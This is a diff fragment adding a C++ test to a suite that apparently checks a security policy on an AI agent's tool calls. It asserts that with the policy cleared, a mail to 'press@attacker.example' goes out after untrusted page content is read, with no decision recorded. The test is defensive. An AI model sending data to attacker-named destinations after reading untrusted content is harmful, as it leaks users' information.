@@ -94,6 +94,15 @@ TEST_P(Guarded, a_mail_passes_until_untrusted_content_was_seen) {
   EXPECT_EQ(mails(), before);
 }
 
+TEST_P(Guarded, with_the_policy_off_calls_go_past_labels_decisions_and_records) {
+  bench.policy.clear();
+  Client client(bench, GetParam());
+  (void)read(client, "fetch_page");
+  EXPECT_EQ(said(client.ask("tools/call", mail("press@attacker.example"))), "sent");
+  EXPECT_TRUE(decisions().empty());
+  EXPECT_TRUE(sessions().empty());
+}
+
 TEST_P(Guarded, a_destination_that_only_content_named_is_asked_about_though_nothing_else_is) {
   bench.policy =
       "rules:\n- {name: r, effect: block, conditions: {and: [{fact: flow.destination.untrusted, "
